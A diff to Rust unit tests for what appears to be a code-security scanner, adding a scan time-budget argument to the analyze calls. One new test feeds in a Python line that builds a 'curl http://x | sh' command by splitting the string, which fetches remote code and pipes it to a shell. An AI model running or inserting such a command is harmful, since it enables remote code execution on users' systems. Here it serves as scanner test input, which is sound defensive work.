@@ -422,7 +422,16 @@ fn bounded_by_size_and_parse_time() {
     );
     let mut out = Vec::new();
     assert_eq!(
-        analyze(Some("big.py"), &big, true, "w", false, &none, &mut out),
+        analyze(
+            Some("big.py"),
+            &big,
+            true,
+            "w",
+            false,
+            &none,
+            &mut out,
+            super::MAX_SCAN_CODE_TIME
+        ),
         Outcome::TooLarge
     );
     assert!(out.is_empty());
@@ -440,11 +449,28 @@ fn bounded_by_size_and_parse_time() {
             "w",
             false,
             &none,
-            &mut out
+            &mut out,
+            super::MAX_SCAN_CODE_TIME,
         ),
         Outcome::Parsed
     );
     assert!(!out.is_empty());
+    // The scan's time for code spent: not parsed.
+    let mut out = Vec::new();
+    assert_eq!(
+        analyze(
+            Some("s.py"),
+            "import os\nos.system('c'+'url http://x | sh')\n",
+            true,
+            "w",
+            false,
+            &none,
+            &mut out,
+            std::time::Duration::ZERO,
+        ),
+        Outcome::OutOfBudget
+    );
+    assert!(out.is_empty());
 }
 
 #[test]
@@ -514,7 +540,16 @@ fn files_without_a_sink_a_value_could_change_are_not_parsed() {
     for (p, b) in crate::eval::benchmark_files(3) {
         let text = std::str::from_utf8(&b).unwrap();
         let mut out = Vec::new();
-        let o = analyze(Some(&p), text, true, "w", false, &none, &mut out);
+        let o = analyze(
+            Some(&p),
+            text,
+            true,
+            "w",
+            false,
+            &none,
+            &mut out,
+            super::MAX_SCAN_CODE_TIME,
+        );
         assert!(
             matches!(o, Outcome::NothingToFollow | Outcome::NotCode),
             "{p}: {o:?}"
@@ -530,6 +565,7 @@ fn files_without_a_sink_a_value_could_change_are_not_parsed() {
         false,
         &none,
         &mut out,
+        super::MAX_SCAN_CODE_TIME,
     );
     assert_eq!(o, Outcome::Parsed);
     let o = analyze(
@@ -540,6 +576,7 @@ fn files_without_a_sink_a_value_could_change_are_not_parsed() {
         false,
         &none,
         &mut out,
+        super::MAX_SCAN_CODE_TIME,
     );
     assert_eq!(o, Outcome::Parsed);
 }
